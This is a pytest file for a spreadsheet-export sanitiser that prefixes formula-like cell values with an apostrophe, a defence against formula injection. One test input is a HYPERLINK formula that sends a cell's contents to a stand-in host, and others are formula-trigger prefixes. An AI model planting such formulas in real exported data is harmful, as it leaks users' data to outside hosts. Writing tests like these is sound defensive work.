import pytest

from cognito_admin.model.spreadsheets import not_a_formula


@pytest.mark.parametrize(
    "cell",
    ['=HYPERLINK("http://x/?"&A1)', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\uff1d1+1", "+49 170", "+"],
)
def test_what_a_spreadsheet_would_calculate_gets_an_apostrophe(cell: str) -> None:
    assert not_a_formula(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", "Ann", "+491701234567", "ann@example.com", "1=1", "'=1"])
def test_other_text_stays_as_it_is(cell: str) -> None:
    assert not_a_formula(cell) == cell
